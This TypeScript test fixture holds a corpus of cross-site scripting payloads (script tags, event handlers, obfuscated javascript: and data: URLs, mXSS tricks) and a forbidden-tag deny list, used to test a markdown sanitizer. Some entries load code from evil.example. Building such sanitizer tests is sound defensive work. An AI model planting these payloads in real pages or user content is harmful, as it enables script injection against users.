/**
 * Attacks on the markdown renderer, shared by the unit tests (string checks) and the browser test
 * (e2e/markdown.spec.ts, which publishes them as one notice and watches the real page). Every payload
 * that runs would set `window.__xss` and open an alert.
 */
export const XSS_FLAG = '__xss';
const JS = `window.${XSS_FLAG}=1;alert(1)`;

export interface XssCase {
  name: string;
  source: string;
  /** Substrings the sanitized HTML must still contain. */
  keeps?: string[];
}

export const XSS_CORPUS: XssCase[] = [
  { name: 'script tag', source: `<script>${JS}</script>` },
  { name: 'script tag, upper case with src', source: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'split script tag', source: `<<script>script>${JS}<</script>/script>` },
  { name: 'img onerror', source: `<img src=x onerror="${JS}">` },
  { name: 'img onerror unquoted', source: '<img src=x onerror=alert(1)>' },
  { name: 'img eval(src)', source: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'quote confusion in img', source: `<img src="x>" onerror="${JS}">` },
  { name: 'body onload', source: `<body onload="${JS}">text</body>` },
  { name: 'details ontoggle', source: `<details open ontoggle="${JS}"><summary>s</summary>d</details>` },
  { name: 'input onfocus', source: `<input autofocus onfocus="${JS}">` },
  {
    name: 'onclick next to an allowed link',
    source: `<a href="https://ok.example/" onclick="${JS}" target="_self" rel="opener">ok</a>`,
    keeps: ['href="https://ok.example/" target="_blank" rel="noopener noreferrer"'],
  },
  { name: 'javascript: href', source: `<a href="javascript:${JS}">js</a>` },
  { name: 'javascript: mixed case', source: `<a href="JaVaScRiPt:${JS}">mixed</a>` },
  { name: 'javascript: with a tab', source: `<a href="java\tscript:${JS}">tab</a>` },
  { name: 'javascript: with a newline', source: `<a href="java\nscript:${JS}">newline</a>` },
  { name: 'javascript: with an entity tab', source: `<a href="jav&#x09;ascript:${JS}">entity tab</a>` },
  { name: 'javascript: with an entity newline', source: `<a href="jav&#x0A;ascript:${JS}">entity nl</a>` },
  {
    name: 'javascript: as decimal entities',
    source: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${JS}">dec</a>`,
  },
  {
    name: 'javascript: as padded entities without semicolons',
    source: `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${JS}">pad</a>`,
  },
  { name: 'javascript: with a hex entity', source: `<a href="&#x6A;avascript:${JS}">hex</a>` },
  { name: 'javascript: with &colon;', source: `<a href="javascript&colon;${JS}">colon</a>` },
  { name: 'javascript: with &NewLine;', source: `<a href="java&NewLine;script:${JS}">NewLine</a>` },
  { name: 'javascript: with leading controls', source: `<a href=" &#14;  javascript:${JS}">lead</a>` },
  { name: 'javascript: with a raw control', source: `<a href="\u0001javascript:${JS}">ctrl</a>` },
  { name: 'javascript: unquoted', source: `<a href=javascript:alert(1)>unquoted</a>` },
  { name: 'javascript: img src', source: `<img src="javascript:${JS}">` },
  { name: 'vbscript: href', source: '<a href="vbscript:msgbox(1)">vb</a>' },
  { name: 'vbscript: mixed case', source: '<a href="VbScRiPt:msgbox(1)">VB</a>' },
  { name: 'file: href', source: '<a href="file:///etc/passwd">file</a>' },
  { name: 'file: mixed case', source: '<a href="FiLe:///C:/Windows/win.ini">FILE</a>' },
  {
    name: 'data:text/html href',
    source: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  },
  { name: 'data:text/html img', source: '<img src="data:text/html,<script>alert(1)</script>">' },
  {
    name: 'data:image/svg+xml img',
    source: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  },
  { name: 'data:image/png as a link', source: '<a href="data:image/png;base64,iVBORw0KGgo=">png link</a>' },
  { name: 'markdown link javascript:', source: `[md](javascript:${JS})` },
  { name: 'markdown link JAVASCRIPT:', source: '[MD](JAVASCRIPT:alert(1))' },
  { name: 'markdown link vbscript:', source: '[vb](vbscript:msgbox(1))' },
  { name: 'markdown link file:', source: '[file](file:///etc/passwd)' },
  { name: 'markdown link data:text/html', source: '[data](data:text/html;base64,PHNjcmlwdD4=)' },
  { name: 'markdown image javascript:', source: '![img](javascript:alert(1))' },
  { name: 'markdown reference link', source: `[ref][evil]\n\n[evil]: javascript:${JS}` },
  { name: 'nested markdown link', source: `[outer [inner](javascript:${JS})](https://example.com/)` },
  { name: 'svg script', source: `<svg><script>${JS}</script></svg>` },
  { name: 'svg onload', source: `<svg onload="${JS}"></svg>` },
  {
    name: 'svg xlink:href',
    source: `<svg><a xlink:href="javascript:${JS}"><text x="0" y="20">svg</text></a></svg>`,
  },
  { name: 'math href', source: `<math href="javascript:${JS}">CLICK</math>` },
  {
    name: 'math mXSS',
    source: `<math><mtext><table><mglyph><style><img src=x onerror="${JS}"></style></mglyph></table></mtext></math>`,
  },
  {
    name: 'noscript mXSS',
    source: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  },
  { name: 'iframe src', source: `<iframe src="javascript:${JS}"></iframe>` },
  { name: 'iframe srcdoc', source: `<iframe srcdoc="<script>${JS}</script>"></iframe>` },
  { name: 'object data', source: `<object data="javascript:${JS}"></object>` },
  { name: 'embed src', source: `<embed src="javascript:${JS}">` },
  { name: 'style tag', source: '<style>body{background:url(javascript:alert(1))}</style>' },
  { name: 'style expression()', source: '<div style="width: expression(alert(1))">expr</div>' },
  { name: 'style url(javascript:)', source: '<p style="background:url(javascript:alert(1))">bg</p>' },
  { name: 'form action', source: `<form action="javascript:${JS}"><button>go</button></form>` },
  { name: 'button formaction', source: `<button formaction="javascript:${JS}">fa</button>` },
  { name: 'meta refresh', source: `<meta http-equiv="refresh" content="0;url=javascript:${JS}">` },
  { name: 'base href', source: '<base href="javascript:alert(1)//">' },
  { name: 'link import', source: '<link rel="import" href="//evil.example/x.html">' },
  {
    name: 'protocol-relative link',
    source: '<a href="//evil.example/">protocol-relative</a>',
    keeps: ['href="//evil.example/" target="_blank" rel="noopener noreferrer"'],
  },
  {
    name: 'data:image/png allowed',
    source:
      '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==" alt="dot">',
    keeps: ['src="data:image/png;base64,iVBORw0KGgo', 'alt="dot"'],
  },
  {
    name: 'markdown data:image/gif allowed',
    source: '![gif](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    keeps: ['src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'],
  },
];

/** What must never reach the page, whatever the case: tags and attributes that run or load code. */
export const FORBIDDEN_TAGS = [
  'script',
  'iframe',
  'object',
  'embed',
  'svg',
  'math',
  'style',
  'form',
  'button',
  'input',
  'meta',
  'base',
  'link',
  'body',
  'noscript',
];
